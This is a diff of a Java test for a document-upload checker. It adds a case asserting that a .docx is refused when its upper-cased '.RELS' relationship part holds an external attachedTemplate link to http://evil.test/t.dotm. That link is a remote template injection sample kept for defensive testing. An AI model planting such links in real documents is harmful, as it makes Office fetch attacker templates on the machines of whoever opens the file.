@@ -3,6 +3,7 @@ package ru.vitok.file.check;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
 
+import java.nio.charset.StandardCharsets;
 import java.util.Arrays;
 import java.util.Locale;
 import java.util.ResourceBundle;
@@ -36,6 +37,18 @@ class InspectionTest {
     })
     void aDocumentUnderAnotherNameIsRefused(String name, Fault fault) {
         assertThat(refused(name, Samples.docx("слова"))).isEqualTo(fault);
+    }
+
+    /** Office finds the parts of a document whatever the case of their names. */
+    @Test
+    void aPartIsLookedAtWhateverTheCaseOfItsName() {
+        var parts = Samples.docxParts("слова");
+        parts.put(
+                "word/_rels/settings.xml.RELS",
+                "<R><Relationship Type='http://x/attachedTemplate' Target='http://evil.test/t.dotm' TargetMode='External'/></R>"
+                        .getBytes(StandardCharsets.UTF_8));
+
+        assertThat(refused("урок.docx", Samples.zip(parts))).isEqualTo(Fault.REMOTE);
     }
 
     @Test
